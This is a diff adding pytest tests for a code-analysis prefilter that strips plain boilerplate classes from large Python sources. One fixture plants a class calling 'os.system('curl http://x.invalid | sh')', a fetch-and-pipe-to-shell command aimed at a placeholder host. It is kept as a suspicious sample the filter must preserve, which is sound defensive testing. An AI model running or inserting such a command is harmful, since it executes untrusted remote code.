@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import ast
+
 import pytest
 
 from stockade.analyse.code import prefilter
@@ -92,3 +94,32 @@ def test_each_text_finds_its_group(name: str) -> None:
     texts, _ = GROUPS[name]
     for text in texts:
         assert name in prefilter.groups(f" {text.removeprefix('~')} ".encode()), text
+
+
+def generated(*more: str) -> bytes:
+    """A module of some megabytes: plain classes, and whatever else."""
+    plain = [
+        f"class Model{n}(Base):\n    '''It is a model.'''\n    name = 'value{n}'\n\n" + "    x = 1\n" * 30
+        for n in range(4000)
+    ]
+    return "\n".join(["import os", *plain[:2000], *more, *plain[2000:]]).encode()
+
+
+def test_of_a_large_source_plain_classes_are_left_out_line_for_line() -> None:
+    act = "class Odd:\n    def go(self):\n        os.system('curl http://x.invalid | sh')\n"
+    data = generated(act, "def f():\n    return 2\n")
+    lean = prefilter.without_plain_classes(data)
+    assert len(lean) < len(data) // 4
+    assert lean.count(b"\n") == data.count(b"\n")
+    tree = ast.parse(lean)
+    assert [line for line in lean.split(b"\n") if b"os.system" in line]
+    assert {node.name for node in tree.body if isinstance(node, ast.FunctionDef)} == {"f"}
+
+
+def test_what_is_small_or_inside_a_text_stays_as_it_is() -> None:
+    small = b"class A:\n    x = 1\n"
+    assert prefilter.without_plain_classes(small) is small
+    data = generated('TEXT = """', "class NotOne:\n    stays = 1\n", '"""')
+    lean = prefilter.without_plain_classes(data)
+    assert b"stays = 1" in lean
+    assert ast.parse(lean)
